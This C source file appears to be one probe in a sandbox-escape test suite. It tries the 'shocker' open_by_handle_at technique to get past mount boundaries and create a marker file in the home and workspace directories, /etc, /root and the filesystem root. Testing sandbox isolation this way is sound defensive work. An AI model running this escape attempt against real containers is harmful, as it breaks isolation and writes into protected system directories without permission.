// Tries: to open files by their handle, past every mount (open_by_handle_at(2), the attack "shocker").
// With: check, run, demo
#include "attack.h"

ATTACK(opens_by_handle) {
  const char *paths[] = {home, workspace, "/etc", "/root", "/"};
  for (unsigned i = 0; i < 5; i++) {
    struct {
      struct file_handle handle;
      unsigned char bytes[128];
    } handle = {.handle = {.handle_bytes = 128}};
    int id, at = open(paths[i], O_RDONLY | O_DIRECTORY);
    if (name_to_handle_at(AT_FDCWD, paths[i], &handle.handle, &id, 0)) continue;
    int fd = open_by_handle_at(at, &handle.handle, O_RDONLY);
    if (fd < 0) continue;
    int made = openat(fd, MARK, O_CREAT | O_WRONLY, 0644);
    if (made >= 0) reached("a file in %s", paths[i]);
  }
}
